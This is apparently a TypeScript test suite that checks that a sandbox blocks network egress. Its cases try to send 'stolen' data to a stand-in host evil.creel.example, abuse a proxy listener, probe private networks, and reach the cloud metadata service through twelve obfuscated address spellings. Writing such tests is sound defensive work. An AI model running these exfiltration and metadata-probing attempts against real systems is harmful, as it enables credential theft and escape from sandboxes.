/** Threat: bytes leave by a way on which nobody decides. */
import { calls, groupOf, node } from "../attack.ts";
import type { Case } from "../model.ts";
import { all, neverPrints, nothingAnywhere, nothingReached, recorded } from "../witness.ts";

const attack = groupOf("network");
const sealed = { promise: "egress-sealed" };

export const network: Case[] = [
  attack("net-host-loopback", "connects to a server of the host on 127.0.0.1", {
    ...sealed,
    program: node(`say(await rawTcp("127.0.0.1", process.env.LOOPBACK_PORT))`),
    expect: nothingAnywhere,
  }),
  attack("net-host-address", "connects to a server of the host on the host's own address", {
    ...sealed,
    program: node(
      `say(await rawTcp(process.env.OWN_ADDRESS, process.env.EVERYWHERE_PORT)); say(await rawTcp("0.0.0.0", process.env.EVERYWHERE_PORT)); say(await rawTcp("127.0.0.2", process.env.EVERYWHERE_PORT))`,
    ),
    expect: nothingAnywhere,
  }),
  attack("net-host-ipv6", "connects to the host over IPv6", {
    ...sealed,
    program: node(
      `for (const a of ["::1", "::", "::ffff:127.0.0.1", "::ffff:" + process.env.OWN_ADDRESS, "fe80::1"]) say(await rawTcp(a, process.env.EVERYWHERE_PORT, "x", 500))`,
    ),
    expect: nothingAnywhere,
  }),
  attack("net-raw-address", "connects to an address of the Internet without a name", {
    ...sealed,
    needs: ["egress", "journal"],
    program: node(`say(await rawTcp("203.0.113.7", 443)); say(await rawTcp("203.0.113.7", 80))`),
    expect: all(nothingAnywhere, recorded({ decision: "deny", host: "203.0.113.7" })),
  }),
  attack("net-unnamed-host", "connects to a host that no rule names", {
    ...sealed,
    needs: ["egress", "journal"],
    program: node(
      `say(await ask("https://" + host("evil") + "/v1/x", { method: "POST", body: "stolen", rejectUnauthorized: false }))`,
    ),
    expect: all(nothingReached("evil"), recorded({ decision: "deny", host: "evil.creel.example" })),
  }),
  attack("net-unnamed-plain", "the same over plain HTTP", {
    ...sealed,
    needs: ["egress", "journal"],
    program: node(`say(await ask("http://" + host("evil") + "/v1/x?stolen=1"))`),
    expect: all(nothingReached("evil"), recorded({ decision: "deny", host: "evil.creel.example", port: 80 })),
  }),
  attack("net-unnamed-bytes", "the same with a protocol of its own", {
    ...sealed,
    needs: ["egress", "journal"],
    program: calls("calls connect evil.creel.example 7000 stolen"),
    expect: all(nothingReached("evil"), recorded({ decision: "deny", host: "evil.creel.example", port: 7000 })),
  }),
  attack("net-other-port", "connects to an allowed host on another port", {
    ...sealed,
    needs: ["egress"],
    program: node(`for (const port of [22, 25, 8443, 7000, 0, 65535]) say(await rawTcp(host("api"), port, "x", 400))`),
    expect: nothingAnywhere,
  }),
  attack(
    "net-allowed-name-old-address",
    "connects to the address that stood for an allowed name, with another name in the request",
    {
      ...sealed,
      needs: ["egress"],
      program: node(`say(await rawTls(host("api"), "GET /v1/x HTTP/1.1\\nHost: " + host("evil") + "\\n\\n"))`),
      expect: nothingAnywhere,
    },
  ),
  attack("net-many-ports", "tries every port of the gateway's own address", {
    ...sealed,
    needs: ["egress"],
    program: node(
      `for (const a of ["127.0.0.1", "10.0.2.100", "10.0.2.2", "10.0.2.3"]) for (const p of [15001, 53, 80, 443, 22, 3128]) say(a + ":" + p + " " + (await rawTcp(a, p, "GET http://" + host("evil") + "/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", 200)).slice(0, 40))`,
    ),
    expect: nothingAnywhere,
  }),
  attack("net-proxy-listener", "speaks to the gateway's listener as if it were an open proxy", {
    ...sealed,
    needs: ["egress"],
    program: node(
      `say(await rawTcp("127.0.0.1", 15001, "CONNECT evil.creel.example:443 HTTP/1.1\\r\\nHost: evil.creel.example\\r\\n\\r\\n")); say(await rawTcp("127.0.0.1", 15001, Buffer.from([5,1,0]), 500))`,
    ),
    expect: nothingAnywhere,
  }),
  attack("net-metadata", "asks the cloud's metadata service by twelve spellings of its address", {
    ...sealed,
    needs: ["egress", "journal"],
    program: node(
      `for (const a of ["169.254.169.254", "2852039166", "0xA9FEA9FE", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "169.254.43518", "169.16689662", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "169.254.169.254.", "100.100.100.200", "[fd00:ec2::254]"]) say(a + " " + JSON.stringify(await ask("http://" + a + "/latest/meta-data/", { timeout: 800 })).slice(0, 60))`,
    ),
    expect: all(nothingAnywhere, recorded({ decision: "deny", host: "169.254.169.254" }), neverPrints(/"status":200/)),
  }),
  attack("net-metadata-names", "asks the metadata service by its names", {
    ...sealed,
    needs: ["egress"],
    program: node(
      `for (const a of ["metadata.google.internal", "metadata", "instance-data", "169-254-169-254.example.com"]) say(await ask("http://" + a + "/latest/", { timeout: 800 }))`,
    ),
    expect: all(nothingAnywhere, neverPrints(/"status":200/)),
  }),
  attack("net-private", "connects to neighbours in private networks", {
    ...sealed,
    program: node(
      `for (const a of ["10.0.0.1", "192.168.0.1", "172.17.0.1", "100.64.0.1", "169.254.1.1"]) for (const p of [22, 2375]) say(await rawTcp(a, p, "x", 200))`,
    ),
    expect: neverPrints(/\b(SSH|HTTP)/),
  }),
];
